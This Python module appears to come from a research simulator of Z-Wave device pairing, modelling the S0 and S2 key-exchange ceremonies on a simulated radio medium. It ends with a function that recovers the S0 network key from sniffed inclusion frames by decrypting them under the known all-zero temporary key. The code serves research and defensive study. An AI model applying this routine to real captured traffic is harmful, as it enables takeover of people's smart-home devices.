"""Device inclusion (pairing): the ceremony that builds a Z-Wave network.

The paper's testbed assumes an already-commissioned smart home; this module
implements the commissioning itself so examples and tests can build
networks from factory-fresh devices and demonstrate the transport-layer
weaknesses Section II-A1 catalogues:

* **No Security** — the device is simply registered;
* **S0** — the network key travels encrypted under the *fixed all-zero
  temporary key* (:data:`repro.security.s0.TEMP_KEY`), so any sniffer
  present during inclusion recovers it (the Fouladi & Ghanoun MITM);
* **S2** — Curve25519 key exchange with DSK-pin user authentication, the
  network key protected by AES-CCM under the ECDH-derived temporary key.

Every ceremony message is transmitted over the simulated medium, so the
attacker's promiscuous dongle records the same bytes a real Zniffer would.
The ceremony object orchestrates both endpoints step-by-step (the state
machines live here rather than in the device classes), while all key
material is produced by the real crypto substrate.
"""

from __future__ import annotations

import random
from dataclasses import dataclass, field
from typing import List, Optional, Tuple

from ..errors import AuthenticationError, SimulatorError
from ..radio.clock import SimClock
from ..radio.medium import RadioMedium
from ..security.ccm import ccm_decrypt, ccm_encrypt
from ..security.s0 import CMD_MESSAGE_ENCAPSULATION, CMD_NETWORK_KEY_SET, S0Context, S0Encapsulated, TEMP_KEY
from ..security.s2 import S2Bootstrap
from ..zwave.application import ApplicationPayload
from ..zwave.constants import BROADCAST_NODE_ID, TransportMode
from ..zwave.frame import ZWaveFrame
from ..zwave.nif import NodeInfo, encode_nif_report
from .controller import VirtualController
from .memory import NodeRecord

#: S2 key-grant bits (unauthenticated / authenticated / access control).
KEY_S2_UNAUTHENTICATED = 0x01
KEY_S2_AUTHENTICATED = 0x02
KEY_S2_ACCESS_CONTROL = 0x04
KEY_S0 = 0x80

#: Fixed 13-byte CCM nonce used for the single key-transfer message of a
#: ceremony (each ceremony derives a fresh temporary key, so no reuse).
_KEY_TRANSFER_NONCE = b"S2-KEY-XFER\x00\x00"


@dataclass
class JoiningDevice:
    """A factory-fresh device waiting to be included."""

    name: str
    node_info: NodeInfo
    requested_keys: int = KEY_S2_ACCESS_CONTROL | KEY_S2_AUTHENTICATED
    rng: random.Random = field(default_factory=random.Random)

    # Populated by the ceremony:
    home_id: Optional[int] = None
    node_id: Optional[int] = None
    network_key: Optional[bytes] = None
    granted_keys: int = 0

    def __post_init__(self) -> None:
        self.bootstrap = S2Bootstrap(self.rng)

    @property
    def included(self) -> bool:
        return self.node_id is not None

    @property
    def dsk_pin(self) -> int:
        """The 5-digit pin printed on the device label."""
        return self.bootstrap.dsk_pin


@dataclass
class InclusionResult:
    """What one ceremony produced."""

    node_id: int
    transport: TransportMode
    granted_keys: int
    frames_exchanged: int
    transcript: Tuple[str, ...]


class InclusionCeremony:
    """Runs add-node ceremonies against one controller's network."""

    #: Simulated seconds per ceremony message (airtime + processing).
    STEP_TIME = 0.25

    def __init__(
        self,
        controller: VirtualController,
        medium: RadioMedium,
        clock: SimClock,
        rng: Optional[random.Random] = None,
    ):
        self._controller = controller
        self._medium = medium
        self._clock = clock
        self._rng = rng or random.Random(0)
        self._frames = 0
        self._transcript: List[str] = []

    # -- plumbing -----------------------------------------------------------------

    def _emit(self, sender: str, src: int, dst: int, payload: ApplicationPayload, note: str) -> None:
        """Transmit one ceremony message over the air and log it."""
        frame = ZWaveFrame(
            home_id=self._controller.home_id if src != 0 else 0,
            src=src,
            dst=dst,
            payload=payload.encode(),
            ack_request=False,
        )
        self._medium.transmit(sender, frame.encode(), 100.0)
        self._clock.advance(self.STEP_TIME)
        self._frames += 1
        self._transcript.append(note)

    def _controller_emit(self, dst: int, payload: ApplicationPayload, note: str) -> None:
        self._emit(self._controller.name, self._controller.node_id, dst, payload, note)

    def _device_emit(self, device_endpoint: str, src: int, payload: ApplicationPayload, note: str) -> None:
        self._emit(device_endpoint, src, self._controller.node_id, payload, note)

    def _next_node_id(self) -> int:
        used = set(self._controller.nvm.node_ids()) | {self._controller.node_id}
        for candidate in range(2, 233):
            if candidate not in used:
                return candidate
        raise SimulatorError("network is full: no free node ids")

    # -- the ceremony ------------------------------------------------------------------

    def include(
        self,
        device: JoiningDevice,
        device_endpoint: str,
        transport: TransportMode = TransportMode.S2,
        user_pin: Optional[int] = None,
    ) -> InclusionResult:
        """Add *device* to the network over the given transport.

        *device_endpoint* is the medium endpoint name the device transmits
        from.  For S2, *user_pin* models the homeowner typing the DSK pin;
        ``None`` accepts the device's true pin (the "unauthenticated S2"
        convenience path), a wrong pin aborts the ceremony.
        """
        if device.included:
            raise SimulatorError(f"{device.name} is already included")
        self._frames = 0
        self._transcript = []

        # 1. The controller advertises inclusion mode.
        self._controller_emit(
            BROADCAST_NODE_ID,
            ApplicationPayload(0x01, 0x08, bytes([0x01])),
            "controller: TRANSFER_PRESENTATION (inclusion mode)",
        )
        # 2. The joining device broadcasts its NIF.
        self._emit(
            device_endpoint,
            0x00,
            BROADCAST_NODE_ID,
            encode_nif_report(device.node_info),
            f"{device.name}: NIF broadcast (requesting inclusion)",
        )
        # 3. The controller assigns the next free node id.
        node_id = self._next_node_id()
        self._controller_emit(
            BROADCAST_NODE_ID,
            ApplicationPayload(0x01, 0x09, bytes([0x01, node_id, device.node_info.capability])),
            f"controller: assign node id #{node_id}",
        )
        device.home_id = self._controller.home_id
        device.node_id = node_id

        if transport is TransportMode.S2:
            granted = self._s2_bootstrap(device, device_endpoint, node_id, user_pin)
        elif transport is TransportMode.S0:
            granted = self._s0_key_exchange(device, device_endpoint, node_id)
        else:
            granted = 0

        # Final step: the controller persists the pairing.
        self._controller.nvm.add(
            NodeRecord(
                node_id=node_id,
                basic=device.node_info.basic,
                generic=device.node_info.generic,
                specific=device.node_info.specific,
                listening=device.node_info.listening,
                secure=granted != 0,
                granted_keys=granted,
                name=device.name,
            )
        )
        device.granted_keys = granted
        return InclusionResult(
            node_id=node_id,
            transport=transport,
            granted_keys=granted,
            frames_exchanged=self._frames,
            transcript=tuple(self._transcript),
        )

    # -- S2 bootstrap (Curve25519 + DSK) ---------------------------------------------------

    def _s2_bootstrap(
        self,
        device: JoiningDevice,
        device_endpoint: str,
        node_id: int,
        user_pin: Optional[int],
    ) -> int:
        controller_boot = S2Bootstrap(self._rng)
        # KEX negotiation.
        self._controller_emit(node_id, ApplicationPayload(0x9F, 0x04, b""), "controller: KEX_GET")
        self._device_emit(
            device_endpoint, node_id,
            ApplicationPayload(0x9F, 0x05, bytes([0x00, 0x02, 0x01, device.requested_keys])),
            f"{device.name}: KEX_REPORT (requesting keys 0x{device.requested_keys:02X})",
        )
        granted = device.requested_keys
        self._controller_emit(
            node_id,
            ApplicationPayload(0x9F, 0x06, bytes([0x00, 0x02, 0x01, granted])),
            f"controller: KEX_SET (granting keys 0x{granted:02X})",
        )
        # Public key exchange — real Curve25519 points on the air.
        self._device_emit(
            device_endpoint, node_id,
            ApplicationPayload(0x9F, 0x08, bytes([0x01]) + device.bootstrap.public),
            f"{device.name}: PUBLIC_KEY_REPORT (including node)",
        )
        self._controller_emit(
            node_id,
            ApplicationPayload(0x9F, 0x08, bytes([0x00]) + controller_boot.public),
            "controller: PUBLIC_KEY_REPORT",
        )
        # DSK authentication: the homeowner compares the printed pin.
        expected_pin = device.dsk_pin
        entered = expected_pin if user_pin is None else user_pin
        if entered != expected_pin:
            self._controller_emit(
                node_id,
                ApplicationPayload(0x9F, 0x07, bytes([0x05])),  # KEX_FAIL: auth
                "controller: KEX_FAIL (DSK pin mismatch)",
            )
            device.home_id = None
            device.node_id = None
            raise AuthenticationError("DSK pin verification failed; inclusion aborted")
        self._transcript.append(f"homeowner verified DSK pin {expected_pin:05d}")

        # Both ends derive the same temporary key from the ECDH exchange.
        temp_controller = controller_boot.derive_temp_key(device.bootstrap.public, initiator=True)
        temp_device = device.bootstrap.derive_temp_key(controller_boot.public, initiator=False)
        if temp_controller != temp_device:  # pragma: no cover - crypto invariant
            raise AuthenticationError("ECDH temporary keys diverged")

        # The network key crosses the air under the temporary key.
        network_key = self._controller_network_key()
        blob = ccm_encrypt(temp_controller, _KEY_TRANSFER_NONCE, b"", network_key)
        self._controller_emit(
            node_id,
            ApplicationPayload(0x9F, 0x03, bytes([0x00, 0x00]) + blob),
            "controller: network key transfer (CCM under ECDH temp key)",
        )
        device.network_key = ccm_decrypt(temp_device, _KEY_TRANSFER_NONCE, b"", blob)
        self._device_emit(
            device_endpoint, node_id,
            ApplicationPayload(0x9F, 0x09, bytes([0x01])),
            f"{device.name}: S2_TRANSFER_END (key verified)",
        )
        return granted

    # -- S0 key exchange (the all-zero temp key weakness) -----------------------------------

    def _s0_key_exchange(
        self, device: JoiningDevice, device_endpoint: str, node_id: int
    ) -> int:
        self._controller_emit(
            node_id, ApplicationPayload(0x98, 0x04, bytes([0x00])), "controller: SCHEME_GET"
        )
        self._device_emit(
            device_endpoint, node_id,
            ApplicationPayload(0x98, 0x05, bytes([0x00])),
            f"{device.name}: SCHEME_REPORT (scheme 0)",
        )
        # The device hands out a nonce from its TEMPORARY-key S0 context.
        device_temp = S0Context(TEMP_KEY, self._rng)
        nonce = device_temp.issue_nonce()
        self._device_emit(
            device_endpoint, node_id,
            ApplicationPayload(0x98, 0x80, nonce),
            f"{device.name}: NONCE_REPORT",
        )
        # The controller sends NETWORK_KEY_SET encrypted under the FIXED
        # all-zero temporary key — the S0 inclusion weakness.
        controller_temp = S0Context(TEMP_KEY, self._rng)
        network_key = self._controller_network_key()
        inner = bytes([0x98, CMD_NETWORK_KEY_SET]) + network_key
        encap = controller_temp.encapsulate(
            inner, nonce, src=self._controller.node_id, dst=node_id
        )
        self._controller_emit(
            node_id,
            ApplicationPayload(0x98, CMD_MESSAGE_ENCAPSULATION, encap.encode()),
            "controller: NETWORK_KEY_SET (S0-encapsulated under the ZERO temp key)",
        )
        plain = device_temp.decapsulate(encap, src=self._controller.node_id, dst=node_id)
        device.network_key = plain[2:18]
        self._device_emit(
            device_endpoint, node_id,
            ApplicationPayload(0x98, 0x07, b""),
            f"{device.name}: NETWORK_KEY_VERIFY",
        )
        return KEY_S0

    def _controller_network_key(self) -> bytes:
        """The controller's network key (the ceremony acts on its behalf)."""
        key = getattr(self._controller, "_network_key", None)
        if key is None:
            raise SimulatorError("controller has no network key configured")
        return key


def steal_s0_key_from_captures(captures) -> Optional[bytes]:
    """The classic attack: recover the S0 network key from a sniffed
    inclusion.

    Scans *captures* (e.g. :meth:`Transceiver.captures`) for an S0
    message-encapsulation, decrypts it under the well-known all-zero
    temporary key, and returns the 16-byte network key if the inner
    command is NETWORK_KEY_SET.
    """
    nonces = {}
    for capture in captures:
        frame = capture.frame
        if frame is None or not frame.payload or frame.payload[0] != 0x98:
            continue
        payload = frame.payload
        if len(payload) >= 2 and payload[1] == 0x80 and len(payload) == 2 + 8:
            nonces[payload[2]] = payload[2:10]
        if len(payload) >= 2 and payload[1] == CMD_MESSAGE_ENCAPSULATION:
            try:
                encap = S0Encapsulated.decode(payload[2:])
            except Exception:
                continue
            nonce = nonces.get(encap.receiver_nonce_id)
            if nonce is None:
                continue
            thief = S0Context(TEMP_KEY)
            thief._issued[nonce[0]] = nonce  # plant the sniffed nonce
            try:
                inner = thief.decapsulate(encap, src=frame.src, dst=frame.dst)
            except Exception:
                continue
            if len(inner) >= 18 and inner[0] == 0x98 and inner[1] == CMD_NETWORK_KEY_SET:
                return inner[2:18]
    return None
